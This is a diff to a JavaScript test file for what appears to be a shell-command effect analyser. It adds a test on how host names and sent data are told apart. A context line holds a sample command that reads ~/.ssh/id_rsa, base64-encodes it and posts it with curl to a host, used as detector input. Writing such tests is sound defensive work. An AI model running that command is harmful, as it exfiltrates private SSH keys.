@@ -60,6 +60,12 @@ describe("effects", () => {
     });
   }
 
+  it("does not take the name of a host for what is sent to it", () => {
+    assert.deepEqual(effects('curl "$URL"; ssh "$HOST_NAME" ls; curl "https://$API/v1"'), []);
+    assert.deepEqual(lower('curl "$URL"').problems, []);
+    assert.deepEqual(effects('curl "https://x.example/$Q"'), [":env Q | :send x.example"]);
+  });
+
   it("tells the steps of the way", () => {
     const text = "K=~/.ssh/id_rsa\nD=$(base64 $K)\ncurl -d $D h";
     const flow = lower(text).lines.find(
